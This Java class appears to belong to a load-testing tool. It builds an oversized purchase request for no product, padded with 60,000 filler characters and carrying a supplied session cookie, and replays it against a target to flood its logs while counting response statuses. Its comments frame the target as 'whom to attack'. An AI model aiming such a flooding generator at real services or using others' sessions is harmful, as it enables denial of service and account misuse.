package io.boltline.load.raw;

import java.net.URI;
import java.util.Map;
import java.util.Optional;

/** What a customer sends who wants to fill the log for nothing: large, and for no product. */
public final class RefusedPurchases implements RepeatedRequest {
    private static final int FILLER = 60_000;

    private final byte[] request;

    /**
     * @param target whom to attack; only its host and port are used
     * @param cookie a session that is somebody's
     */
    public RefusedPurchases(URI target, String cookie) {
        String body =
                "{\"product\":\"none\",\"metadata\":{\"filler\":\"" + "x".repeat(FILLER) + "\"}}";
        request = RequestHead.ofPurchase(target, Map.of("Cookie", cookie)).with(body);
    }

    @Override
    public byte[] next() {
        return request;
    }

    /** No answer is good: the statuses are what is counted. */
    @Override
    public Optional<String> fault(Answer answer) {
        return Optional.of(String.valueOf(answer.status()));
    }
}
